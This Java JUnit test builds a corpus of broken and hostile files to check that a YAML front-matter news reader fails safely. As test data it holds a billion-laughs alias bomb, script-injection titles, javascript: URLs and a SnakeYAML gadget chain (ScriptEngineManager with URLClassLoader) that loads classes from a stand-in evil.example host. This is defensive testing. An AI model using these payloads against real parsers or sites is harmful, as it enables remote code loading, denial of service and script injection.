package io.lede.item;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.Constructor;

/**
 * A corpus of broken and hostile files mixed with copies of the seeds, read file by file with
 * {@link FrontMatterReader#read(Path)}: every seed item is still read, each broken file is reported by
 * name (with its line where one is known) and a reason, and nothing escapes as an exception.
 */
class HostileCorpusTest {

  /** Constructed only if some YAML tag managed to instantiate a class. */
  public static class Canary {
    static final AtomicInteger constructed = new AtomicInteger();

    public Canary() {
      constructed.incrementAndGet();
    }
  }

  private static final String CANARY_TAG = "!!" + Canary.class.getName();
  private static final List<String> SEED_NAMES = List.of(
      "000_716087d221ba374e.txt", "001_4aa140a8f03c43d9.txt", "002_35f37359fa3d435c.txt",
      "003_ec02425a1d264854.txt", "004_0b299f2cb35e1191.txt");

  /** Files beside the seed copies that must read without any problem. */
  private static final List<String> SOUND_EXTRAS = List.of("bom-000.txt", "crlf-001.txt", "quality-numeric-string.txt",
      "unknown-fields.txt", "duplicate-keys.txt", "html-title.txt", "dates.txt", "utf16le-002.txt", "utf16be-002.txt");

  @TempDir static Path corpus;

  private static final Map<String, ParseResult> results = new TreeMap<>();
  private static final Map<String, Duration> took = new TreeMap<>();
  private static final Map<String, ParseResult> originals = new TreeMap<>();

  /** Files that must each be reported; the value is the line the report must name, 0 when no line is known. */
  private static final Map<String, Integer> broken = new TreeMap<>();

  @BeforeAll
  static void buildAndReadCorpus() throws IOException {
    FrontMatterReader reader = new FrontMatterReader();
    for (String seed : SEED_NAMES) {
      Files.copy(Path.of("seeds", seed), corpus.resolve(seed));
      originals.put(seed, reader.read(Path.of("seeds", seed)));
    }
    writeCorpus();

    Canary.constructed.set(0);
    List<Path> files;
    try (Stream<Path> list = Files.list(corpus)) {
      files = list.sorted().toList();
    }
    for (Path file : files) {
      long start = System.nanoTime();
      ParseResult result = assertDoesNotThrow(() -> reader.read(file), file::toString);
      took.put(file.getFileName().toString(), Duration.ofNanos(System.nanoTime() - start));
      results.put(file.getFileName().toString(), result);
    }
  }

  private static void writeCorpus() throws IOException {
    // Structure.
    brokenFile("malformed-yaml.txt", 3, "---\ntitle: ok\nexcerpt: x: y\nwebUrl: https://m.example/\n---\n");
    brokenFile("malformed-unclosed-quote.txt", 3, "---\ntitle: \"unclosed\nexcerpt: x\n---\n");
    brokenFile("missing-closing-fence.txt", 1, "---\ntitle: Never closed\nexcerpt: nothing ends this\n");
    brokenFile("missing-opening-fence.txt", 3, "\n\ntitle: No fence\nexcerpt: x\n---\n");
    brokenFile("empty.txt", 1, "");
    brokenFile("whitespace-only.txt", 1, "  \n\t\n\n");
    brokenFile("not-a-mapping.txt", 2, "---\n- a list\n- not fields\n---\n");
    brokenFile("empty-front-matter.txt", 2, "---\n---\nA body with no fields at all.\n");
    brokenFile("control-character.txt", 3, "---\ntitle: fine\nexcerpt: \"bell \u0007 here\"\n---\n");

    // Fields: a problem for that field, the item kept.
    brokenFile("title-as-list.txt", 3,
        "---\ntitle:\n  - first\n  - second\nexcerpt: The excerpt still carries the story.\nwebUrl: https://t.example/list\n---\n");
    brokenFile("quality-high.txt", 4, "---\ntitle: Quality is a word\nwebUrl: https://q.example/1\nquality: high\n---\n");
    write("quality-numeric-string.txt", "---\ntitle: Quality as text\nwebUrl: https://q.example/2\nquality: \"45\"\nheat: '7'\n---\n");
    brokenFile("quality-huge-exponent.txt", 4, "---\ntitle: Exponent\nwebUrl: https://q.example/3\nquality: 1e99999999\nheat: -5\n---\n");
    write("unknown-fields.txt", """
        ---
        title: Unknown fields are tolerated
        webUrl: https://u.example/1
        secured: "abc==;def=="
        x-custom: {nested: [1, 2, {deep: true}]}
        sentiment: 0.7
        related:
          - title: A related story with extras
            webUrl: https://u.example/2
            clicks: 1234
            tags: [a, b]
        ---
        """);
    write("duplicate-keys.txt", "---\ntitle: First title\ntitle: Second title\nwebUrl: https://d.example/1\n---\n");
    write("html-title.txt", "---\ntitle: \"<script>alert('x')</script> <b>Breaking</b> news &amp; <img src=x onerror=alert(1)>\"\n"
        + "excerpt: \"<p>First</p><p>Second &#8211; third</p>\"\nwebUrl: https://h.example/1\n---\n");
    write("dates.txt", """
        ---
        title: Dates in several shapes
        publishedDateTime: 2021-02-16
        webUrl: https://dates.example/0
        related:
          - title: Offset
            publishedDateTime: 2020-01-07T12:59:00+05:30
            webUrl: https://dates.example/1
          - title: Quoted with a negative offset and a space
            publishedDateTime: "2020-01-07 02:29:00 -05:00"
            webUrl: https://dates.example/2
          - title: Fraction and Z
            publishedDateTime: 2020-01-07T07:29:00.250Z
            webUrl: https://dates.example/3
        ---
        """);
    brokenFile("date-unreadable.txt", 3, "---\ntitle: When?\npublishedDateTime: yesterday\nwebUrl: https://dates.example/4\n---\n");
    brokenFile("javascript-url.txt", 3, """
        ---
        title: Hostile URL keys
        originalUrl: "javascript:alert(document.cookie)"
        sourceUrl: "JaVaScRiPt:alert(1)"
        webUrl: https://js.example/story
        ampUrl: "data:text/html,<script>alert(1)</script>"
        cdnAmpUrl: https://js-example.cdn.ampproject.org/c/s/js.example/story
        ---
        """);
    brokenFile("javascript-url-only.txt", 3, "---\ntitle: Only a hostile URL\nwebUrl: javascript:alert(1)\n---\n");

    // Encodings and line endings.
    byte[] seed000 = Files.readAllBytes(Path.of("seeds", SEED_NAMES.get(0)));
    byte[] withBom = new byte[seed000.length + 3];
    withBom[0] = (byte) 0xEF;
    withBom[1] = (byte) 0xBB;
    withBom[2] = (byte) 0xBF;
    System.arraycopy(seed000, 0, withBom, 3, seed000.length);
    Files.write(corpus.resolve("bom-000.txt"), withBom);
    String seed001 = Files.readString(Path.of("seeds", SEED_NAMES.get(1)), StandardCharsets.UTF_8);
    write("crlf-001.txt", seed001.replace("\n", "\r\n"));
    String seed002 = Files.readString(Path.of("seeds", SEED_NAMES.get(2)), StandardCharsets.UTF_8);
    Files.write(corpus.resolve("utf16le-002.txt"), ("\uFEFF" + seed002.replace("\n", "\r\n")).getBytes(StandardCharsets.UTF_16LE));
    Files.write(corpus.resolve("utf16be-002.txt"), seed002.getBytes(StandardCharsets.UTF_16)); // Java writes a BOM, big-endian
    broken.put("latin1.txt", 3);
    Files.write(corpus.resolve("latin1.txt"),
        "---\nwebUrl: https://l.example/1\ntitle: \"Café in Zürich\"\nexcerpt: \"Straße, naïve – 5 €\"\n---\n"
            .getBytes("windows-1252"));

    // Resource exhaustion.
    brokenFile("alias-bomb.txt", 0, billionLaughs());
    brokenFile("deep-nesting.txt", 0, "---\ntitle: deep\nx: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n---\n");
    brokenFile("recursive-alias.txt", 3, "---\ntitle: Loops\nrelated: &r [*r]\nprovider: &p {name: *p}\n---\n");
    brokenFile("ten-thousand-related.txt", 5, tenThousandRelated());
    brokenFile("image-amplification.txt", 3, imageAmplification());
    broken.put("oversized.txt", 0);
    try (RandomAccessFile sparse = new RandomAccessFile(corpus.resolve("oversized.txt").toFile(), "rw")) {
      sparse.setLength(FrontMatterReader.MAX_FILE_BYTES + 1L);
    }
    broken.put("a-directory.txt", 0);
    Files.createDirectory(corpus.resolve("a-directory.txt"));
    byte[] garbage = new byte[4096];
    new Random(42).nextBytes(garbage);
    broken.put("binary-garbage.txt", 0);
    Files.write(corpus.resolve("binary-garbage.txt"), garbage);

    // Tags that would instantiate classes under an unsafe loader.
    brokenFile("tag-java-url.txt", 3, "---\ntitle: URL tag\nwebUrl: !!java.net.URL [\"https://evil.example/\"]\n---\n");
    brokenFile("tag-script-engine.txt", 3, "---\ntitle: Script engine\nexcerpt: !!javax.script.ScriptEngineManager "
        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n---\n");
    brokenFile("tag-canary.txt", 3, "---\ntitle: Canary\nx: " + CANARY_TAG + " {}\n---\n");
    brokenFile("tag-canary-verbatim.txt", 3, "---\ntitle: Canary\nx: !<tag:yaml.org,2002:" + Canary.class.getName() + "> {}\n---\n");
    brokenFile("tag-canary-in-related.txt", 6,
        "---\ntitle: Canary deep\nrelated:\n  - title: fine\n  - title: also fine\n    provider: " + CANARY_TAG + " {}\n---\n");
    brokenFile("tag-local.txt", 3, "---\ntitle: Local tag\nprovider: !canary {name: x}\n---\n");
    brokenFile("tag-on-key.txt", 3, "---\ntitle: Tag on a key\n!canary key: value\n---\n");
  }

  private static String billionLaughs() {
    StringBuilder s = new StringBuilder("---\ntitle: lol\nlol0: &lol0 [\"lol\"]\n");
    for (int level = 1; level <= 9; level++) {
      s.append("lol").append(level).append(": &lol").append(level).append(" [");
      for (int k = 0; k < 10; k++) s.append(k == 0 ? "" : ", ").append("*lol").append(level - 1);
      s.append("]\n");
    }
    return s.append("related: *lol9\n---\n").toString();
  }

  private static String tenThousandRelated() {
    StringBuilder s = new StringBuilder("---\ntitle: Too many related\nwebUrl: https://many.example/\nrelated:\n");
    for (int i = 0; i < 10_000; i++) {
      s.append("  - title: \"Related ").append(i).append("\"\n    webUrl: https://many.example/").append(i).append('\n');
    }
    return s.append("---\n").toString();
  }

  /** One list of 5,000 images shared by aliases between the article and 18 related entries. */
  private static String imageAmplification() {
    StringBuilder s = new StringBuilder("---\ntitle: Shared images\nimages: &imgs\n");
    for (int i = 0; i < 5_000; i++) s.append("  - {url: \"https://img.example/").append(i).append(".jpg\", width: 10, height: 10}\n");
    s.append("r: &r {title: Related with shared images, webUrl: \"https://img.example/story\", images: *imgs}\n");
    s.append("related: [").append(String.join(", ", java.util.Collections.nCopies(18, "*r"))).append("]\n---\n");
    return s.toString();
  }

  private static void brokenFile(String name, int line, String content) throws IOException {
    broken.put(name, line);
    write(name, content);
  }

  private static void write(String name, String content) throws IOException {
    Files.writeString(corpus.resolve(name), content, StandardCharsets.UTF_8);
  }

  private static NewsItem item(String file) {
    ParseResult result = results.get(file);
    assertTrue(result.item().isPresent(), () -> file + " yielded no item: " + result.problems());
    return result.item().get();
  }

  private static List<ItemProblem> problems(String file) {
    return results.get(file).problems();
  }

  // ---------------------------------------------------------------- the corpus as a whole

  @Test
  void everyFileIsReadAndNoExceptionEscapes() throws IOException {
    try (Stream<Path> list = Files.list(corpus)) {
      assertEquals(list.count(), results.size());
    }
    assertEquals(SEED_NAMES.size() + SOUND_EXTRAS.size() + broken.size(), results.size());
  }

  @Test
  void everySeedItemIsStillRead() {
    for (String seed : SEED_NAMES) {
      assertEquals(List.of(), problems(seed), seed);
      assertEquals(originals.get(seed).item(), results.get(seed).item(), seed);
    }
  }

  @Test
  void eachBrokenFileIsReportedByNameWithItsLineAndAReason() {
    for (Map.Entry<String, Integer> e : broken.entrySet()) {
      String file = e.getKey();
      List<ItemProblem> problems = problems(file);
      assertFalse(problems.isEmpty(), file + " was not reported");
      for (ItemProblem p : problems) {
        assertEquals(file, p.file(), p::toString);
        assertFalse(p.reason().isBlank(), p::toString);
        assertTrue(p.line() >= 0, p::toString);
      }
      if (e.getValue() > 0) {
        String where = file + ":" + e.getValue() + ": ";
        assertTrue(problems.stream().anyMatch(p -> p.line() == e.getValue() && p.toString().startsWith(where)),
            () -> "no problem names " + where + " " + problems);
      }
    }
  }

  @Test
  void filesWithoutProblemsAreExactlyTheSoundOnes() {
    Set<String> clean = new java.util.TreeSet<>();
    results.forEach((file, r) -> {
      if (!r.hasProblems()) clean.add(file);
    });
    Set<String> expected = new java.util.TreeSet<>(SEED_NAMES);
    expected.addAll(SOUND_EXTRAS);
    assertEquals(expected, clean);
  }

  @Test
  void structuralFailuresYieldNoItemAndAreFatal() {
    for (String file : List.of("malformed-yaml.txt", "malformed-unclosed-quote.txt", "missing-closing-fence.txt",
        "missing-opening-fence.txt", "empty.txt", "whitespace-only.txt", "not-a-mapping.txt", "empty-front-matter.txt",
        "control-character.txt", "alias-bomb.txt", "deep-nesting.txt", "oversized.txt", "a-directory.txt",
        "binary-garbage.txt")) {
      assertEquals(Optional.empty(), results.get(file).item(), file);
      assertTrue(problems(file).stream().anyMatch(ItemProblem::fatal), file);
    }
    assertTrue(problems("malformed-yaml.txt").get(0).reason().startsWith("malformed YAML"));
    assertTrue(problems("missing-closing-fence.txt").get(0).reason().contains("never closed"));
    assertTrue(problems("missing-opening-fence.txt").get(0).reason().contains("does not start with a '---'"));
    assertTrue(problems("empty.txt").get(0).reason().contains("empty"));
    assertTrue(problems("control-character.txt").get(0).reason().contains("U+0007"));
    assertTrue(problems("oversized.txt").get(0).reason().contains("limit"));
    assertTrue(problems("a-directory.txt").get(0).reason().startsWith("cannot read file"));
  }

  // ---------------------------------------------------------------- fields

  @Test
  void titleAsListCostsTheTitleNotTheItem() {
    NewsItem item = item("title-as-list.txt");
    assertEquals("", item.article().title());
    assertEquals("The excerpt still carries the story.", item.article().excerpt());
    assertEquals("https://t.example/list", item.article().url());
    ItemProblem p = problems("title-as-list.txt").get(0);
    assertEquals("title", p.field());
    assertFalse(p.fatal());
    assertTrue(p.reason().contains("list"), p::toString);
  }

  @Test
  void qualityHighIsAFieldProblemAndTheItemIsKeptWithUnknownQuality() {
    NewsItem item = item("quality-high.txt");
    assertEquals("Quality is a word", item.article().title());
    assertEquals(Story.UNKNOWN, item.article().quality());
    assertEquals(List.of(ItemProblem.ofField("quality-high.txt", 4, "quality", "expected a whole number, found 'high'")),
        problems("quality-high.txt"));
  }

  @Test
  void numericStringsAreAccepted() {
    assertEquals(45, item("quality-numeric-string.txt").article().quality());
    assertEquals(7, item("quality-numeric-string.txt").heat());
  }

  @Test
  void aHugeExponentIsRefusedQuicklyAndNegativeHeatReadsAsUnknown() {
    // Rounding 1e99999999 to an int would first build a 100-million-digit number (tens of seconds).
    assertTrue(took.get("quality-huge-exponent.txt").compareTo(Duration.ofSeconds(2)) < 0, took.get("quality-huge-exponent.txt")::toString);
    NewsItem item = item("quality-huge-exponent.txt");
    assertEquals(Story.UNKNOWN, item.article().quality());
    assertEquals(Story.UNKNOWN, item.heat());
    assertEquals(List.of("quality", "heat"), problems("quality-huge-exponent.txt").stream().map(ItemProblem::field).toList());
  }

  @Test
  void unknownFieldsAreTolerated() {
    NewsItem item = item("unknown-fields.txt");
    assertEquals("Unknown fields are tolerated", item.article().title());
    assertEquals(1, item.related().size());
    assertEquals("https://u.example/2", item.related().get(0).url());
  }

  @Test
  void laterDuplicateKeyWins() {
    assertEquals("Second title", item("duplicate-keys.txt").article().title());
  }

  @Test
  void htmlAndScriptInATitleAreCleanedButNeverExecutedOrHidden() {
    NewsItem item = item("html-title.txt");
    // Formatting tags go; <script> and <img onerror> stay as literal text, shown escaped downstream.
    assertEquals("<script>alert('x')</script> Breaking news & <img src=x onerror=alert(1)>", item.article().title());
    assertEquals("First Second – third", item.article().excerpt());
  }

  @Test
  void datesAreReadAsExactInstants() {
    NewsItem item = item("dates.txt");
    assertEquals(Optional.of(Instant.parse("2021-02-16T00:00:00Z")), item.article().publishedAt());
    assertEquals(List.of(
            Optional.of(Instant.parse("2020-01-07T07:29:00Z")),
            Optional.of(Instant.parse("2020-01-07T07:29:00Z")),
            Optional.of(Instant.parse("2020-01-07T07:29:00.250Z"))),
        item.related().stream().map(Story::publishedAt).toList());
  }

  @Test
  void anUnreadableDateCostsOnlyTheDate() {
    NewsItem item = item("date-unreadable.txt");
    assertEquals(Optional.empty(), item.article().publishedAt());
    assertEquals("https://dates.example/4", item.article().url());
    assertEquals("publishedDateTime", problems("date-unreadable.txt").get(0).field());
  }

  @Test
  void javascriptAndDataUrlsAreReportedAndNeverCanonical() {
    Story story = item("javascript-url.txt").article();
    assertEquals("https://js.example/story", story.url());
    assertEquals(List.of("https://js-example.cdn.ampproject.org/c/s/js.example/story"), story.alternateUrls());
    assertEquals(List.of("originalUrl", "sourceUrl", "ampUrl"),
        problems("javascript-url.txt").stream().map(ItemProblem::field).toList());

    Story only = item("javascript-url-only.txt").article();
    assertEquals("", only.url());
    assertEquals(List.of(), only.alternateUrls());
    assertEquals("webUrl", problems("javascript-url-only.txt").get(0).field());
  }

  // ---------------------------------------------------------------- encodings

  @Test
  void aByteOrderMarkIsIgnored() {
    assertEquals(List.of(), problems("bom-000.txt"));
    NewsItem seed = originals.get(SEED_NAMES.get(0)).item().orElseThrow();
    NewsItem bom = item("bom-000.txt");
    assertEquals(seed.article(), bom.article());
    assertEquals(seed.related(), bom.related());
    assertEquals(seed.topics(), bom.topics());
  }

  @Test
  void crlfLineEndingsReadTheSameAsLf() {
    assertEquals(List.of(), problems("crlf-001.txt"));
    NewsItem seed = originals.get(SEED_NAMES.get(1)).item().orElseThrow();
    NewsItem crlf = item("crlf-001.txt");
    assertEquals(seed.article(), crlf.article());
    assertEquals(seed.related(), crlf.related());
    assertEquals(seed.topics(), crlf.topics());
    assertEquals(seed.heat(), crlf.heat());
  }

  @Test
  void utf16WithAByteOrderMarkReadsTheSameAsUtf8() {
    NewsItem seed = originals.get(SEED_NAMES.get(2)).item().orElseThrow();
    for (String file : List.of("utf16le-002.txt", "utf16be-002.txt")) {
      assertEquals(List.of(), problems(file), file);
      assertEquals(seed.article(), item(file).article(), file);
      assertEquals(seed.related(), item(file).related(), file);
    }
  }

  @Test
  void latin1BytesAreReadAsWindows1252AndReported() {
    NewsItem item = item("latin1.txt");
    assertEquals("Café in Zürich", item.article().title());
    assertEquals("Straße, naïve – 5 €", item.article().excerpt());
    ItemProblem p = problems("latin1.txt").get(0);
    assertEquals("encoding", p.field());
    assertEquals(3, p.line(), "the first non-UTF-8 byte (é) is on line 3");
    assertFalse(p.fatal());
  }

  // ---------------------------------------------------------------- resource exhaustion

  @Test
  void anAliasBombIsRefusedFast() {
    assertTrue(took.get("alias-bomb.txt").compareTo(Duration.ofSeconds(2)) < 0, took.get("alias-bomb.txt")::toString);
    assertEquals(Optional.empty(), results.get("alias-bomb.txt").item());
    assertTrue(problems("alias-bomb.txt").get(0).reason().contains("aliases"), problems("alias-bomb.txt")::toString);
  }

  @Test
  void deepNestingIsRefusedFast() {
    assertTrue(took.get("deep-nesting.txt").compareTo(Duration.ofSeconds(2)) < 0);
    assertTrue(problems("deep-nesting.txt").get(0).reason().contains("Nesting"), problems("deep-nesting.txt")::toString);
  }

  @Test
  void recursiveAliasesDoNotLoop() {
    NewsItem item = item("recursive-alias.txt");
    assertEquals("Loops", item.article().title());
    assertEquals(List.of(), item.related());
    assertEquals(Provider.UNKNOWN, item.article().provider());
    assertEquals(List.of("related[0]", "provider.name"),
        problems("recursive-alias.txt").stream().map(ItemProblem::field).sorted(java.util.Comparator.reverseOrder()).toList());
  }

  @Test
  void tenThousandRelatedEntriesAreCappedAndReported() {
    NewsItem item = item("ten-thousand-related.txt");
    assertEquals(ItemAssembler.MAX_RELATED, item.related().size());
    assertEquals("Related 0", item.related().get(0).title());
    assertEquals("Related " + (ItemAssembler.MAX_RELATED - 1), item.related().get(ItemAssembler.MAX_RELATED - 1).title());
    ItemProblem p = problems("ten-thousand-related.txt").get(0);
    assertEquals("related", p.field());
    assertTrue(p.reason().contains("10000"), p::toString);
    assertEquals(1, problems("ten-thousand-related.txt").size());
  }

  @Test
  void aliasedImageListsAreCappedPerStory() {
    NewsItem item = item("image-amplification.txt");
    assertEquals(ItemAssembler.MAX_IMAGES, item.article().images().size());
    assertEquals(18, item.related().size());
    for (Story s : item.related()) assertEquals(ItemAssembler.MAX_IMAGES, s.images().size());
    assertEquals(19, problems("image-amplification.txt").size(), "the article and each related entry report the cut");
    assertTrue(problems("image-amplification.txt").stream().allMatch(p -> p.field().endsWith("images") && p.reason().contains("5000")));
  }

  @Test
  void anOversizedFileIsRefusedWithoutReadingIt() {
    assertTrue(took.get("oversized.txt").compareTo(Duration.ofSeconds(1)) < 0);
  }

  // ---------------------------------------------------------------- tags

  @Test
  void noTagInstantiatesAClass() {
    assertEquals(0, Canary.constructed.get(), "a YAML tag constructed the canary");
    for (String file : List.of("tag-java-url.txt", "tag-script-engine.txt", "tag-canary.txt", "tag-canary-verbatim.txt",
        "tag-canary-in-related.txt", "tag-local.txt", "tag-on-key.txt")) {
      assertEquals(Optional.empty(), results.get(file).item(), file);
      ItemProblem p = problems(file).get(0);
      assertTrue(p.fatal(), p::toString);
      assertTrue(p.reason().toLowerCase(java.util.Locale.ROOT).contains("tag"), p::toString);
    }
    assertTrue(problems("tag-canary.txt").get(0).reason().contains(Canary.class.getName()));
    assertTrue(problems("tag-local.txt").get(0).reason().contains("!canary"));
  }

  /** The control: the same document does construct the canary under a loader that trusts tags, so the test above can fail. */
  @Test
  void theCanaryIsLiveUnderAnUnsafeLoader() {
    LoaderOptions trusting = new LoaderOptions();
    trusting.setTagInspector(tag -> true);
    int before = Canary.constructed.get();
    Object loaded = new Yaml(new Constructor(trusting)).load(CANARY_TAG + " {}");
    try {
      assertTrue(loaded instanceof Canary);
      assertEquals(before + 1, Canary.constructed.get());
    } finally {
      Canary.constructed.set(before);
    }
  }

  @Test
  void readingTheWholeCorpusTakesSeconds() {
    Duration total = took.values().stream().reduce(Duration.ZERO, Duration::plus);
    assertTrue(total.compareTo(Duration.ofSeconds(20)) < 0, total::toString);
    List<String> slow = new ArrayList<>();
    took.forEach((file, d) -> {
      if (d.compareTo(Duration.ofSeconds(5)) > 0) slow.add(file + " " + d);
    });
    assertEquals(List.of(), slow);
  }
}
